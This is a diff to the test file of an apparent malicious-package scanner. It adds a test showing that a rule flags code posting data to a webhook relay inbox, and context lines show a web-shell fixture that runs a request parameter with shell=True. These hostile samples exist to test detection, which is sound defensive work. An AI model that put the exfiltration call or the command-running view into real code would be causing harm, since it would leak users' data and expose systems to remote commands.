@@ -15,6 +15,7 @@ from threatfeed.analysis.rules.concealment import (
     privilege_escalation_rule,
 )
 from threatfeed.analysis.rules.correlation import data_exfiltration_rule
+from threatfeed.analysis.rules.network import suspicious_url_references_rule
 from threatfeed.analysis.rules.obfuscation import obfuscated_code_rule
 from threatfeed.analysis.rules.signature_rules import (
     credential_harvesting_rule,
@@ -540,3 +541,16 @@ def test_a_web_view_running_its_parameter_as_a_command_is_a_web_shell(engine: En
     assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/views.py": view}))
     safe = view.replace("request.args.get('parser'), shell=True", "['lxml-check', '--version']")
     assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/views.py": safe})) is None
+
+
+def test_a_webhook_relay_inbox_is_an_exfiltration_endpoint(engine: Engine) -> None:
+    code = (
+        "import requests\n\n"
+        "def report(data):\n"
+        "    requests.post('https://k8examplerelay.hooks.webhookrelay.com/', json=data)\n"
+    )
+    evidence = run_rule(engine, suspicious_url_references_rule, sdist({"tidy_strings/r.py": code}))
+    assert evidence
+    docs = "import requests\n\nrequests.get('https://webhookrelay.com/pricing')\n"
+    archive = sdist({"tidy_strings/r.py": docs})
+    assert run_rule(engine, suspicious_url_references_rule, archive) is None
